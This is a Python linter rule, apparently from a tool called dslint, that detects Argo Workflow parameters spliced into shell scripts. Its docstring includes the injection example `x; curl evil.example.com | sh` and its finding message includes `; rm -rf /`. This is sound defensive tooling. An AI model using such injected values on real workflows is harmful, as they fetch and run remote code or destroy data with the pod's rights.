r"""A parameter of a workflow becomes part of a shell script.

## Why it matters
Argo puts the text of a parameter into the script before any shell sees it. A name with a space or a quote breaks the
script; one such as `x; curl evil.example.com | sh` is run. Whoever may start the workflow, or names the file that
starts it, so gets to run commands with the rights of its pod.

As an environment variable the text stays text.

## Examples
```yaml bad workflow.yaml
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata:
  name: retrain
spec:
  entrypoint: train
  serviceAccountName: workflow
  templates:
  - name: train
    inputs:
      parameters:
      - name: dataset
    script:
      image: python:3.13.1-slim-bookworm
      command: [bash]
      source: |
        python prepare.py {{inputs.parameters.dataset}}
```
```yaml good workflow.yaml
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata:
  name: retrain
spec:
  entrypoint: train
  serviceAccountName: workflow
  templates:
  - name: train
    inputs:
      parameters:
      - name: dataset
    script:
      image: python:3.13.1-slim-bookworm
      command: [bash]
      env:
      - name: DATASET
        value: "{{inputs.parameters.dataset}}"
      resources:
        requests:
          memory: 1Gi
        limits:
          memory: 1Gi
      source: |
        python prepare.py "$DATASET"
```

## Known limits
Judged are scripts for a shell; text that goes into Python is not seen.

## References
- https://argo-workflows.readthedocs.io/en/latest/walk-through/parameters/
- https://argo-workflows.readthedocs.io/en/latest/variables/
"""

from collections.abc import Iterator

from dslint.kubernetes import Container
from dslint.rule import Category, Finding, Profile, Severity, rule
from dslint.yaml import Scalar, as_scalar, as_sequence

_SHELLS = ("sh", "bash", "dash", "ash", "zsh")


@rule(
    on=Container,
    category=Category.SECURITY,
    severity=Severity.WARNING,
    profile=Profile.STRICT,
    covers=("semgrep/argo-workflow-parameter-command-injection",),
)
def check(container: Container) -> Iterator[Finding]:
    if container.pod.object.group != "argoproj.io" or not container.command:
        return
    program = container.command[0].text.rpartition("/")[2]
    for text in _scripts(container) if program in _SHELLS else ():
        start = _parameter(text.span.text)
        if start is not None:
            place = text.span.source.span(text.span.start + start[0], text.span.start + start[1])
            yield Finding(
                place,
                f"`{place.text}` becomes part of the shell script: a value such as `; rm -rf /` is run",
                help="set it as a variable in `env` and use that in the script, in double quotes",
            )


def _scripts(container: Container) -> Iterator[Scalar]:
    """The `source`, or the text behind `-c`."""
    source = as_scalar(container.yaml.get("source"))
    if source is not None:
        yield source
    for name in ("command", "args"):
        words = as_sequence(container.yaml.get(name))
        for item in words.items if words is not None else ():
            word = as_scalar(item)
            if word is not None and ("\n" in word.text or " " in word.text):
                yield word


def _parameter(text: str) -> tuple[int, int] | None:
    """Where the first parameter stands in a text."""
    from re import search

    found = search(r"\{\{ *=? *(?:inputs|workflow)\.parameters[^{}\n]*\}\}", text)
    return found.span() if found else None
